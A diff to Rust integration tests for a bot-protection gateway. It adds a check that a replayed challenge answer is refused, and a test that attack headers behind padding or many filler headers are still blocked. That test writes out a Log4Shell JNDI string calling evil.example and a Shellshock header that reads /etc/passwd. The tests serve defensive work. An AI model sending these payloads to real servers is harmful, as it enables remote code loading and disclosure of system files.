@@ -274,22 +274,36 @@ fn a_solved_challenge_lets_the_client_through_without_loops() {
     // The client does the work for one of them and gets a pass and its page back.
     let token = token_of(&pages[2]);
     let counter = solve(&token).unwrap().to_string();
-    let answer = send(
-        gateway.http,
-        post_form(
-            host,
-            &[
-                ("token", &token),
-                ("counter", &counter),
-                ("return", "/page-2?x=1"),
-            ],
-        ),
-    )
-    .unwrap();
+    let submit = || {
+        send(
+            gateway.http,
+            post_form(
+                host,
+                &[
+                    ("token", &token),
+                    ("counter", &counter),
+                    ("return", "/page-2?x=1"),
+                ],
+            ),
+        )
+        .unwrap()
+    };
+    let answer = submit();
     assert_eq!(answer.status, 303, "{}", answer.text());
     assert_eq!(answer.header("location"), Some("/page-2?x=1"));
     let cookie = pass_cookie(&answer);
     assert!(cookie.starts_with(&format!("{PASS_COOKIE}=")));
+    // The same answer sent again gives no second pass.
+    for _ in 0..2 {
+        let replayed = submit();
+        assert_eq!(replayed.status, 403, "{}", replayed.text());
+        assert!(replayed.header("set-cookie").is_none());
+        assert!(
+            replayed.text().contains("answered already"),
+            "{}",
+            replayed.text()
+        );
+    }
     // Every parallel request now passes with that one pass, and a second solved token
     // is just as good: nothing loops.
     for i in 0..4 {
@@ -656,4 +670,66 @@ fn a_real_browser_solves_the_challenge_by_itself() {
             .any(|l| l.contains("botgate::access") && l.contains("action=\"challenge_solved\"")),
         "{log}"
     );
+}
+
+#[test]
+fn payloads_behind_padding_or_past_the_header_bound_are_not_granted() {
+    let origin = origin("site");
+    let gateway = gateway(origin.address.port(), &["--max-headers", "200"]);
+    add_website(
+        &gateway,
+        json!({"domain": "padded.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
+    )
+    .unwrap();
+    let host = "padded.example";
+    let payload = "${jndi:ldap://evil.example/a}";
+    let filler_names: Vec<String> = (0..100).map(|i| format!("x-filler-{i}")).collect();
+    let with_fillers = |count: usize, target: &'static str| {
+        let mut request = Outgoing::get(host, target).browser();
+        for name in &filler_names[..count] {
+            request = request.header(name.as_str(), "ordinary");
+        }
+        request
+    };
+    // The payload alone, behind 2 KiB of padding, and in the 78th header: denied.
+    for (request, what) in [
+        (
+            Outgoing::get(host, "/alone")
+                .browser()
+                .header("x-api", payload),
+            "alone",
+        ),
+        (
+            Outgoing::get(host, "/padded")
+                .browser()
+                .header("x-api", format!("{}{payload}", "a".repeat(2048))),
+            "behind padding",
+        ),
+        (
+            with_fillers(67, "/late").header("x-late", payload),
+            "in the 78th header",
+        ),
+        (
+            with_fillers(67, "/late-shell").header("x-late", "() { :; }; /bin/cat /etc/passwd"),
+            "shellshock in the 78th header",
+        ),
+    ] {
+        let answer = send(gateway.http, request).unwrap();
+        assert_eq!(answer.status, 403, "{what}: {}", answer.text());
+    }
+    // Long benign headers are still granted: a 4 KiB cookie, 100 ordinary headers.
+    let cookie = format!("session={}", "c".repeat(4096));
+    let answer = send(
+        gateway.http,
+        Outgoing::get(host, "/cookie")
+            .browser()
+            .header("cookie", cookie),
+    )
+    .unwrap();
+    assert_eq!(answer.status, 200, "{}", answer.text());
+    // (The test origin, hyper, refuses over 100 headers itself: the gateway's verdict is
+    // what counts.)
+    send(gateway.http, with_fillers(100, "/many")).unwrap();
+    let line = access_line(&gateway, "/many");
+    assert!(line.contains("action=\"grant\""), "{line}");
 }
